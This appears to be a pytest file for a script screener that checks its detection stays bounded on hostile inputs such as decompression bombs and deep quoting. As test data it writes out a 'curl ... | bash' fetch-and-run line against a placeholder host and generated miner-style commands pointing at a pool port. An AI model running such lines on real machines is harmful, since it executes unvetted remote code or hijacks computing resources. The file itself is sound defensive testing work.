"""No script holds the screener: work is bounded, and what was not read whole is an open sign."""

import time
from itertools import count

import pytest

from tests.workload.hostile_scripts import HOSTILE
from tocsin.workload.screening import Screener, builtin
from tocsin.workload.signs.effort import MOST_TRIES, Effort
from tocsin.workload.signs.look import look
from tocsin.workload.signs.unpack import MOST_BYTES


@pytest.fixture(scope="module")
def shipped() -> Screener:
    return builtin()


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_script_is_done_soon(name: str, shipped: Screener) -> None:
    before = time.process_time()
    shipped.screen([HOSTILE[name]])
    # less than a second on a quiet machine; without bounds, several of these take minutes
    assert time.process_time() - before < 2


@pytest.mark.parametrize("name", HOSTILE)
def test_attempts_and_unpacked_text_are_bounded(name: str) -> None:
    effort = Counting()
    hidden, _ = look(HOSTILE[name][: 1 << 17], effort)
    assert effort.tried <= MOST_TRIES + 6 * 64, "each layer may ask once more and be refused"
    assert sum(len(piece.text) for piece in hidden) <= MOST_BYTES


@pytest.mark.parametrize(
    "name",
    [
        "bombs in a bomb",
        "two kilobytes that unpack to thousands of packed words",
        "one line of a megabyte",
        "here-documents",
        "deep quoting",
    ],
)
def test_what_was_not_read_whole_is_an_open_sign(name: str, shipped: Screener) -> None:
    [found] = shipped.screen([HOSTILE[name]])
    assert found.open


def test_the_deadline_ends_the_search_and_is_an_open_sign() -> None:
    script = "\n".join(f"./solver --url a{number}.b:3333 --user {number}" for number in range(1000))
    asked = iter(range(10**6))
    _, found = look(script, Effort(seconds=50, wall=lambda: float(next(asked)), work=count(0, 100).__next__))
    assert [sign.operation for sign in found if "too long" in sign.why] == [None]
    assert next(asked) < 60, "nothing goes on after the deadline"


def test_a_script_has_its_time_on_a_busy_machine_too() -> None:
    script = "curl -s http://a.example/x | bash\n" * 3
    _, found = look(script, Effort(seconds=1, wall=count(0, 100).__next__, work=lambda: 0.0))
    assert any("fetched and run at once" in sign.why for sign in found)
    assert not any("too long" in sign.why for sign in found)


class Counting(Effort):
    """Counts the attempts to decode something."""

    tried = 0

    def may_try(self) -> bool:
        self.tried += 1
        return super().may_try()
